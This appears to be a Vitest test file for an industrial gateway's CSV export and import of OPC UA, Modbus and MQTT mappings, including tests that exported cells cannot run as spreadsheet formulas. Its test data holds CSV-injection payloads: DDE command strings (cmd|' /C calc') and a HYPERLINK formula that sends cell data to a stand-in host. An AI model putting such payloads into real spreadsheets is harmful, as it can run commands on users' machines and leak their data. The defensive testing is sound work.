import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import { validateConfig } from '../../src/config/load.js';
import { withoutReadingSecrets } from '../../src/config/secrets.js';
import { MergeError } from '../../src/console/config-merge.js';
import { CsvError, formatCsv, parseCsv } from '../../src/console/csv.js';
import { CSV_COLUMNS, mappingsCsv } from '../../src/console/mapping-csv.js';
import { importMappingsCsv } from '../../src/console/mapping-import.js';

/**
 * Mappings as CSV (issue 24 §3, docs/mappings-csv.md): the reader takes what spreadsheets write
 * (quotes, CRLF, a byte order mark, semicolons), the export lists every mapping, and the import
 * adds the good rows through the merge and names every bad one by row, field and value.
 */
const LIMITS = { maxRecords: 100, maxFields: 30, maxFieldChars: 200 };
const demo = readFileSync('config/demo.yaml', 'utf8');

describe('CSV reader and writer', () => {
  it('reads quoted fields holding commas, quotes and line breaks, CRLF and a byte order mark', () => {
    const text = '\uFEFFa,b,c\r\n1,"x, y","say ""hi"""\r\n2,"two\r\nlines",\r\n';
    expect(parseCsv(text, LIMITS)).toEqual({
      delimiter: ',',
      records: [
        { row: 1, fields: ['a', 'b', 'c'] },
        { row: 2, fields: ['1', 'x, y', 'say "hi"'] },
        { row: 3, fields: ['2', 'two\r\nlines', ''] },
      ],
    });
  });

  it('counts blank lines as rows (as the spreadsheet numbers them) and leaves them out; LF and CR end records too', () => {
    expect(parseCsv('a\n\nb\rc', LIMITS).records).toEqual([
      { row: 1, fields: ['a'] },
      { row: 3, fields: ['b'] },
      { row: 4, fields: ['c'] },
    ]);
  });

  it('takes the delimiter from the header: semicolon (Excel where the comma is the decimal mark) or tab', () => {
    expect(parseCsv('a;b\n"1,5";2\n', LIMITS)).toEqual({ delimiter: ';', records: [{ row: 1, fields: ['a', 'b'] }, { row: 2, fields: ['1,5', '2'] }] });
    expect(parseCsv('a\tb\n1\t2\n', LIMITS).records[1].fields).toEqual(['1', '2']);
  });

  it('keeps a quote inside a plain field, and refuses an unclosed quote naming the row', () => {
    expect(parseCsv('a,b\n5" pipe,x\n', LIMITS).records[1].fields).toEqual(['5" pipe', 'x']);
    const err = (() => {
      try {
        parseCsv('a,b\n1,2\n3,"open\n4,5\n', LIMITS);
      } catch (e) {
        return e;
      }
    })();
    expect(err).toBeInstanceOf(CsvError);
    expect(err).toMatchObject({ row: 3, message: 'a quoted field is not closed (a " is missing)' });
  });

  it('bounds rows, columns and field length', () => {
    expect(() => parseCsv('a\n'.repeat(101), LIMITS)).toThrow(/more than 100 rows/);
    expect(() => parseCsv(`${'x,'.repeat(30)}x\n`, LIMITS)).toThrow(/more than 30 columns/);
    expect(() => parseCsv(`a\n"${'y'.repeat(201)}"\n`, LIMITS)).toThrow(/longer than 200 characters/);
  });

  it('writes CRLF records, quoting only the fields that need it, and reads them back as written', () => {
    const records = [
      ['plain', 'with, comma', 'say "x"', 'two\nlines', ' padded', '', 'a;b', '°C'],
      ['=1+1', '-40', 'ns=2;s=A.B', 'tab\there', 'end', 'x', 'y', 'z'],
    ];
    const csv = formatCsv(records);
    expect(csv.split('\r\n')[0]).toBe('plain,"with, comma","say ""x""","two\nlines"," padded",,"a;b",°C');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv, LIMITS).records.map((r) => r.fields)).toEqual(records);
  });
});

describe('mappings export', () => {
  it('lists every mapping of the demo: OPC UA nodes, Modbus registers, MQTT values, with their comments', () => {
    const { csv, rows } = mappingsCsv(demo);
    expect(rows).toBe(19);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines).toContain('opcua,press1,mvr_press1_state,"nsu=urn:edge-gateway:sim:press1;s=Press1.MachineState",,,,,,,,,"0 stopped, 1 running, 2 fault",opc.tcp://127.0.0.1:4840/UA/Press1,None,,,,,,,,');
    expect(lines).toContain('modbus,mixer1,mvr_mixer1_power,,holding,3,float32,,CDAB,,,,"kW, word-swapped",,,tcp,127.0.0.1,5020,,1,,,');
    expect(lines).toContain('modbus,mixer1,mvr_mixer1_running,,coil,0,bool,,,,,,bool → 0/1,,,tcp,127.0.0.1,5020,,1,,,');
    expect(lines).toContain('mqtt,plant-mqtt,mvr_oven1_gas_flow,,,,,,,,,,,,,,,,,,spBv1.0/plant/#,sparkplug,Gas Flow');
  });

  it('writes a Modicon reference without a table, and a comment a spreadsheet would run as a formula with a leading quote', async () => {
    const text = `modbus:\n  devices:\n    - name: m\n      host: h\n      address_base: 1\n      registers:\n        - { variable: mvr_a, address: "40101", type: int16 }   # =cmd|' /C calc'!A0\n        - { variable: mvr_b, table: input, address: 7 }\n`;
    const lines = mappingsCsv(text).csv.split('\r\n');
    expect(lines[1]).toBe(`modbus,m,mvr_a,,,40101,int16,,ABCD,,,,'=cmd|' /C calc'!A0,,,tcp,h,502,,1,,,`);
    expect(lines[2]).toBe('modbus,m,mvr_b,,input,7,uint16,,ABCD,,,,,,,tcp,h,502,,1,,,');
    // Read back: the reference stays a reference, the comment loses its quote, nothing changes.
    expect(await importMappingsCsv(text, lines.join('\r\n'))).toMatchObject({ added: 0, unchanged: 2, problems: [] });
  });
});

describe('mappings import', () => {
  it('imports an export back without a change', async () => {
    const { csv } = mappingsCsv(demo);
    const r = await importMappingsCsv(demo, `\uFEFF${csv}`);
    expect(r).toMatchObject({ yaml: demo, rows: 19, added: 0, unchanged: 19, problems: [], targets: [] });
  });

  it('adds the good rows and names each bad one by row, field and value', async () => {
    const csv = [
      'kind,source,variable,table,address,type,byte_order,scale,comment,host,port,unit_id,node_id,endpoint',
      'modbus,mixer1,mvr_mixer1_x,holding,8,float32,CDAB,0.5,"added, with a comma",,,,,', // 2: added
      'modbus,mixer1,mvr_mixer1_y,holdin,9,uint16,,,,,,,,', // 3: unknown table
      'modbus,mixer1,mvr_mixer1_z,holding,4x01,uint16,,,,,,,,', // 4: bad address
      'modbus,mixer1,mixer1_w,holding,12,uint16,,,,,,,,', // 5: bad variable id
      'modbus,mixer1,mvr_mixer1_power,holding,20,float32,,,,,,,,', // 6: mapped by this device elsewhere: a change
      'modbus,mixer1,mvr_mixer1_v,holding,9,uint16,,,,,,,,', // 7: overlaps row 2's float32 (8-9)
      'modbus,mixer1,mvr_mixer1_x,holding,14,uint16,,,,,,,,', // 8: the same variable as row 2
      '',
      'modbus,mixer9,mvr_mixer9_a,,40011,int16,,,,10.0.0.9,1502,3,,', // 10: new device, Modicon reference
      'modbus,mixer9,mvr_mixer9_b,input,0,int16,,"0,1",,,,,,', // 11: same device, address from row 10; bad scale
      'modbus,mixer9,mvr_mixer9_c,coil,2,float32,,,,,,,,', // 12: float from a coil
      'opcua,press9,mvr_press9_t,,,,,,"Press9/T (Double)",,,,ns=2;s=T,', // 13: new server without endpoint
      'opcua,press1,mvr_press1_extra,,,,,,,,,,ns=2;s=Extra,', // 14: configured server
      'opcua,press1,mvr_press1_bad,,,,,,,,,,ns=2;x=1,', // 15: bad node id
      'mqtt,plant-mqtt,mvr_packer1_speed,,,,,,,,,,,', // 16: MQTT is not imported
      'modbus,mixer1,mvr_mixer1_level,input,0,int16,,0.2,,,,,,', // 17: changes a mapping (its scale)
      'modbus,mixer1,mvr_press1_speed,holding,30,uint16,,,,,,,,', // 18: mapped by another source
    ].join('\r\n');
    const r = await importMappingsCsv(demo, csv);
    expect(r.problems).toEqual([
      { row: 3, field: 'table', value: 'holdin', message: 'is not one of coil, discrete_input, holding, input' },
      { row: 4, field: 'address', value: '4x01', message: '"4x01" is not an address (use a number, hex like "0x0064", or a Modicon reference like "40001")' },
      { row: 5, field: 'variable', value: 'mixer1_w', message: 'is not a machine variable id (mvr_ followed by letters, digits and "_")' },
      { row: 7, field: 'address', value: '9', message: 'duplicate: holding register 9 (uint16) overlaps holding registers 8-9 (float32), read as mvr_mixer1_x' },
      { row: 8, field: 'variable', value: 'mvr_mixer1_x', message: 'duplicate: mvr_mixer1_x is also on row 2' },
      { row: 11, field: 'scale', value: '0,1', message: 'is not a number' },
      { row: 12, field: 'type', value: 'float32', message: 'cannot be read from coils: they hold single bits (type bool)' },
      { row: 13, field: 'endpoint', value: '', message: 'server press9 is not in the configuration: give its endpoint (opc.tcp://host:4840) to create it' },
      { row: 15, field: 'node_id', value: 'ns=2;x=1', message: 'is not a node id (expected ns=<index>;s=<name>, ns=<index>;i=<number>, i=<number> or nsu=<namespace uri>;s=<name>)' },
      { row: 16, field: 'kind', value: 'mqtt', message: 'import adds OPC UA nodes and Modbus registers; add MQTT subscriptions in the editor (MQTT rows are exported for reference)' },
      { row: 18, field: 'variable', value: 'mvr_press1_speed', message: 'duplicate: mvr_press1_speed is already mapped at opcua.servers[0].nodes[2].variable (press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.Speed); an import changes a mapping within its source only: move it in the editor' },
    ]);
    expect(r).toMatchObject({ rows: 16, added: 3, updated: 0, unchanged: 0, more_problems: 0 });
    // Rows that change a mapping of the same source are listed, not made, until asked (update).
    expect(r.changes).toEqual([
      { row: 6, variable: 'mvr_mixer1_power', setting: 'modbus.devices[0].registers[2]', before: 'mixer1 holding 3, float32 CDAB', after: 'mixer1 holding 20, float32 CDAB', applied: false },
      { row: 17, variable: 'mvr_mixer1_level', setting: 'modbus.devices[0].registers[4]', before: 'mixer1 input 0, int16 ABCD, scale 0.1', after: 'mixer1 input 0, int16 ABCD, scale 0.2', applied: false },
    ]);
    expect(r.targets).toEqual([
      { source: 'mixer1', target: 'modbus.devices[0]', created: false, added: 1 },
      { source: 'mixer9', target: 'modbus.devices[1]', created: true, added: 1 },
      { source: 'press1', target: 'opcua.servers[0]', created: false, added: 1 },
    ]);
    const config = withoutReadingSecrets(() => validateConfig(parse(r.yaml))).config;
    expect(config.modbus!.devices[0].registers.at(-1)).toMatchObject({ variable: 'mvr_mixer1_x', table: 'holding', address: 8, type: 'float32', byte_order: 'CDAB', scale: 0.5 });
    expect(config.modbus!.devices[1]).toMatchObject({ name: 'mixer9', host: '10.0.0.9', port: 1502, unit_id: 3, registers: [{ variable: 'mvr_mixer9_a', address: '40011', type: 'int16' }] });
    expect(config.opcua.servers[0].nodes.at(-1)).toMatchObject({ node_id: 'ns=2;s=Extra', variable: 'mvr_press1_extra' });
    expect(r.yaml).toContain('# added, with a comma');
  });

  it('reads an Excel file: byte order mark, semicolons, decimal commas, CRLF, header words in any case', async () => {
    const csv = '\uFEFFKind;Source;Variable;Table;Address;Type;Scale;Host;Port;Unit ID\r\nmodbus;boiler;mvr_boiler_t;holding;0;int16;0,1;10.1.1.1;502;1\r\nmodbus;boiler;mvr_boiler_p;holding;1;int16;"2,5";;;\r\n';
    const r = await importMappingsCsv('gateway:\n  name: x\n', csv);
    expect(r.problems).toEqual([]);
    expect(parse(r.yaml).modbus.devices[0]).toEqual({
      name: 'boiler',
      transport: 'tcp',
      host: '10.1.1.1',
      port: 502,
      unit_id: 1,
      registers: [
        { variable: 'mvr_boiler_t', table: 'holding', address: 0, type: 'int16', scale: 0.1 },
        { variable: 'mvr_boiler_p', table: 'holding', address: 1, type: 'int16', scale: 2.5 },
      ],
    });
  });

  it('creates an OPC UA server from the row that gives its endpoint, and refuses a row that moves it', async () => {
    const csv = 'kind,source,variable,node_id,endpoint,security_mode\nopcua,plc7,mvr_a,ns=2;s=A,,\nopcua,plc7,mvr_b,ns=2;s=B,opc.tcp://10.0.0.7:4840,Sign\nopcua,plc7,mvr_c,ns=2;s=C,opc.tcp://10.0.0.8:4840,\n';
    const r = await importMappingsCsv('', csv);
    expect(r.problems).toEqual([{ row: 4, field: 'endpoint', value: 'opc.tcp://10.0.0.8:4840', message: 'differs from opc.tcp://10.0.0.7:4840, given for server plc7 on row 3' }]);
    expect(parse(r.yaml).opcua.servers).toEqual([{ name: 'plc7', endpoint: 'opc.tcp://10.0.0.7:4840', security_mode: 'Sign', nodes: [{ node_id: 'ns=2;s=A', variable: 'mvr_a' }, { node_id: 'ns=2;s=B', variable: 'mvr_b' }] }]);
  });

  it('names a new device that no row gives an address for, and a device given two addresses', async () => {
    const csv = 'source,variable,table,address,host\nm1,mvr_a,holding,0,\nm2,mvr_b,holding,0,10.0.0.1\nm2,mvr_c,holding,1,10.0.0.2\n';
    const r = await importMappingsCsv('', csv);
    expect(r.problems).toEqual([
      { row: 2, field: 'host', value: '', message: 'device m1 is not in the configuration: give its host (and port, unit_id), or path for a serial device, on one of its rows to create it' },
      { row: 4, field: 'host', value: '10.0.0.2', message: 'differs from device m2 as row 3 gives it (10.0.0.1:502, unit 1); one name is one device' },
    ]);
    expect(r.added).toBe(1);
  });

  it('refuses a CSV without the columns it needs, an unclosed quote and a text that is not YAML, as a whole', async () => {
    await expect(importMappingsCsv(demo, 'name,address\nx,1\n')).rejects.toThrow(/the CSV has no column "variable"/);
    await expect(importMappingsCsv(demo, 'source,variable,address\nm,"mvr_a,1\n')).rejects.toThrow(/CSV row 2: a quoted field is not closed/);
    await expect(importMappingsCsv('a: [', 'source,variable,address\nm,mvr_a,1\n')).rejects.toThrow(MergeError);
    await expect(importMappingsCsv(demo, '')).rejects.toThrow(/the CSV is empty/);
  });

  it('reports an unknown column once and imports the rest', async () => {
    const r = await importMappingsCsv('', 'source,variable,table,address,host,Description\nm,mvr_a,coil,3,10.0.0.1,the lamp\n');
    expect(r.problems).toEqual([{ row: 1, field: 'description', value: 'Description', message: `unknown column, left out (known: ${CSV_COLUMNS.join(', ')})` }]);
    expect(parse(r.yaml).modbus.devices[0].registers).toEqual([{ variable: 'mvr_a', table: 'coil', address: 3 }]);
  });
});

describe('cells a spreadsheet would run', () => {
  // OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is a formula.
  const hostile = `mqtt:
  connections:
    - name: plant
      url: embedded
      subscriptions:
        - topic: "+/line1/#"
          format: metrics
          names: { "=HYPERLINK(\\"http://x.example/?d=\\"&A1)": mvr_a, "@SUM(1+1)": mvr_b, "-2+3": mvr_c, "\\t=1+1": mvr_d, "'=kept": mvr_e, "-5": mvr_f }
modbus:
  devices:
    - name: m
      host: "=10.0.0.1"
      registers:
        - { variable: mvr_g, table: holding, address: 0, offset: -40, scale: -0.5 }   # +cmd|' /C calc'!A0
opcua:
  servers:
    - name: press
      endpoint: opc.tcp://10.0.0.5:4840
      nodes:
        - { node_id: "ns=2;s=@Press.T", variable: mvr_h, unit: "=1+1" }
`;

  it('exports no cell that starts like a formula (numbers stay numbers), and imports the file back unchanged', async () => {
    const { csv } = mappingsCsv(hostile);
    const cells = parseCsv(csv, { maxRecords: 100, maxFields: 64, maxFieldChars: 4_096 }).records.flatMap((r) => r.fields);
    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c));
    expect(formulaLike).toEqual([]);
    for (const c of ["'=1+1", "'+/line1/#", `'=HYPERLINK("http://x.example/?d="&A1)`, "'@SUM(1+1)", "'-2+3", "'\t=1+1", "''=kept", "'=10.0.0.1", "'+cmd|' /C calc'!A0", '-40', '-0.5', '-5']) expect(cells).toContain(c);
    // Read back: every mapping unchanged, the text as it was.
    const r = await importMappingsCsv(hostile, csv);
    expect(r).toMatchObject({ yaml: hostile, added: 0, updated: 0, changes: [], problems: [] });
    expect(r.unchanged).toBe(8);
  });
});

describe('changes to existing mappings', () => {
  const csv = [
    'kind,source,variable,node_id,table,address,type,byte_order,scale',
    'modbus,mixer1,mvr_mixer1_level,,input,0,int16,,0.2', // scale 0.1 → 0.2
    'modbus,mixer1,mvr_mixer1_speed,,holding,40,uint32,CDAB,', // moved and retyped
    'opcua,press1,mvr_press1_count,"nsu=urn:edge-gateway:sim:press1;s=Press1.Parts",,,,,', // another node
    'modbus,mixer1,mvr_mixer1_energy,,holding,0,uint32,,0.1', // onto the temperature's registers
  ].join('\r\n');

  it('lists them without touching the text, then makes them in place when asked, keeping every other byte', async () => {
    const listed = await importMappingsCsv(demo, csv);
    expect(listed).toMatchObject({ yaml: demo, added: 0, updated: 0 });
    expect(listed.changes.map((c) => [c.row, c.variable, c.before, c.after, c.applied])).toEqual([
      [2, 'mvr_mixer1_level', 'mixer1 input 0, int16 ABCD, scale 0.1', 'mixer1 input 0, int16 ABCD, scale 0.2', false],
      [3, 'mvr_mixer1_speed', 'mixer1 holding 2, uint16 ABCD', 'mixer1 holding 40, uint32 CDAB', false],
      [4, 'mvr_press1_count', 'press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.PartCount', 'press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.Parts', false],
      [5, 'mvr_mixer1_energy', 'mixer1 holding 5, uint32 ABCD, scale 0.1', 'mixer1 holding 0, uint32 ABCD, scale 0.1', false],
    ]);
    const done = await importMappingsCsv(demo, csv, { update: true });
    expect(done).toMatchObject({ added: 0, updated: 3 });
    // A change onto registers another variable reads is refused, naming both.
    expect(done.problems).toEqual([{ row: 5, field: 'address', value: '0', message: 'cannot change mvr_mixer1_energy: holding registers 0-1 (uint32) overlaps holding registers 0-1 (float32), read as mvr_mixer1_temperature' }]);
    expect(done.changes.map((c) => [c.variable, c.applied])).toEqual([
      ['mvr_mixer1_level', true],
      ['mvr_mixer1_speed', true],
      ['mvr_press1_count', true],
    ]);
    const before = demo.split('\n');
    const after = done.yaml.split('\n');
    expect(after).toHaveLength(before.length);
    const changed = after.map((l, i) => [before[i], l]).filter(([a, b]) => a !== b);
    expect(changed).toEqual([
      ['        - { node_id: "nsu=urn:edge-gateway:sim:press1;s=Press1.PartCount", variable: mvr_press1_count }', '        - { node_id: "nsu=urn:edge-gateway:sim:press1;s=Press1.Parts", variable: mvr_press1_count }'],
      ['        - { variable: mvr_mixer1_speed,       table: holding, address: 2, type: uint16 }                    # rpm', '        - { variable: mvr_mixer1_speed,       table: holding, address: 40, type: uint32, byte_order: CDAB } # rpm'],
      ['        - { variable: mvr_mixer1_level,       table: input,   address: 0, type: int16, scale: 0.1 }         # 0.1 % → %', '        - { variable: mvr_mixer1_level,       table: input,   address: 0, type: int16, scale: 0.2 }         # 0.1 % → %'],
    ]);
    const config = withoutReadingSecrets(() => validateConfig(parse(done.yaml))).config;
    expect(config.modbus!.devices[0].registers.find((r) => r.variable === 'mvr_mixer1_speed')).toMatchObject({ address: 40, type: 'uint32', byte_order: 'CDAB' });
  });

  it("flags the rows whose variable the organisation's catalog does not list, and still takes them", async () => {
    const rows = 'kind,source,variable,table,address\nmodbus,mixer1,mvr_mixer1_temperature,holding,0\nmodbus,mixer1,mvr_mixer1_new,holding,30\nmodbus,mixer1,mvr_typo_speed,holding,31\n';
    const catalog = new Map<string, string | null>([['mvr_mixer1_temperature', '°C'], ['mvr_mixer1_new', null]]);
    const r = await importMappingsCsv(demo, rows, { catalog });
    expect(r.not_in_catalog).toEqual([{ row: 4, variable: 'mvr_typo_speed' }]);
    expect(r.added).toBe(2);
    expect((await importMappingsCsv(demo, rows)).not_in_catalog).toBeNull();
  });
});

describe('units', () => {
  const text = `modbus:
  devices:
    - name: mixer1
      host: 127.0.0.1
      registers:
        - { variable: mvr_mixer1_power, table: holding, address: 0, type: float32, unit: kW }   # power
        - { variable: mvr_mixer1_speed, table: holding, address: 2, type: uint16 }
opcua:
  servers:
    - name: press1
      endpoint: opc.tcp://127.0.0.1:4840
      nodes:
        - { node_id: "ns=2;s=T", variable: mvr_press1_temperature, unit: °C }
`;
  const head = 'kind,source,variable,node_id,table,address,type,unit';

  it('are exported in their column and read back without a change', async () => {
    const { csv } = mappingsCsv(text);
    const [header, ...rows] = parseCsv(csv, { maxRecords: 10, maxFields: 64, maxFieldChars: 200 }).records.map((r) => r.fields);
    const unit = header.indexOf('unit');
    expect(unit).toBe(header.indexOf('offset') + 1);
    expect(rows.map((r) => [r[2], r[unit]])).toEqual([
      ['mvr_press1_temperature', '°C'],
      ['mvr_mixer1_power', 'kW'],
      ['mvr_mixer1_speed', ''],
    ]);
    expect(await importMappingsCsv(text, csv)).toMatchObject({ yaml: text, added: 0, unchanged: 3, changes: [], problems: [] });
  });

  it('a new row writes its unit as the setting; another unit is a listed change made on confirm; an empty one keeps the text\'s', async () => {
    const csv = [
      head,
      'modbus,mixer1,mvr_mixer1_energy,,holding,4,uint32,kWh', // added with its unit
      'modbus,mixer1,mvr_mixer1_power,,holding,0,float32,W', // kW → W
      'modbus,mixer1,mvr_mixer1_speed,,holding,2,uint16,', // no unit given: unchanged
      'opcua,press1,mvr_press1_temperature,ns=2;s=T,,,,', // keeps °C
      `modbus,mixer1,mvr_mixer1_level,,input,0,int16,${'x'.repeat(33)}`, // too long
    ].join('\n');
    const listed = await importMappingsCsv(text, csv);
    expect(listed).toMatchObject({ added: 1, unchanged: 2, updated: 0 });
    expect(listed.yaml).toContain('        - { variable: mvr_mixer1_energy, table: holding, address: 4, type: uint32, unit: kWh }\n');
    expect(listed.changes.map((c) => [c.row, c.before, c.after, c.applied])).toEqual([[3, 'mixer1 holding 0, float32 ABCD, unit kW', 'mixer1 holding 0, float32 ABCD, unit W', false]]);
    expect(listed.problems).toEqual([{ row: 6, field: 'unit', value: 'x'.repeat(33), message: 'is longer than 32 characters' }]);
    const done = await importMappingsCsv(text, csv, { update: true });
    expect(done.yaml).toContain('        - { variable: mvr_mixer1_power, table: holding, address: 0, type: float32, unit: W }    # power\n');
    const value = parse(done.yaml) as { modbus: { devices: Array<{ registers: Array<{ variable: string; unit?: string }> }> }; opcua: { servers: Array<{ nodes: Array<{ unit?: string }> }> } };
    expect(value.modbus.devices[0].registers.map((r) => [r.variable, r.unit])).toEqual([
      ['mvr_mixer1_power', 'W'],
      ['mvr_mixer1_speed', undefined],
      ['mvr_mixer1_energy', 'kWh'],
    ]);
    expect(value.opcua.servers[0].nodes[0].unit).toBe('°C');
  });

  it("flags a row whose unit is not the catalog's, as Apply's preview does", async () => {
    const catalog = new Map<string, string | null>([['mvr_mixer1_power', 'kW'], ['mvr_mixer1_energy', 'kWh'], ['mvr_mixer1_speed', null]]);
    const csv = [head, 'modbus,mixer1,mvr_mixer1_power,,holding,0,float32,W', 'modbus,mixer1,mvr_mixer1_energy,,holding,4,uint32,kWh', 'modbus,mixer1,mvr_mixer1_speed,,holding,2,uint16,rpm'].join('\n');
    const r = await importMappingsCsv(text, csv, { catalog });
    expect(r.other_units).toEqual([{ row: 2, variable: 'mvr_mixer1_power', unit: 'W', catalog: 'kW' }]);
    expect(r.not_in_catalog).toEqual([]);
  });
});
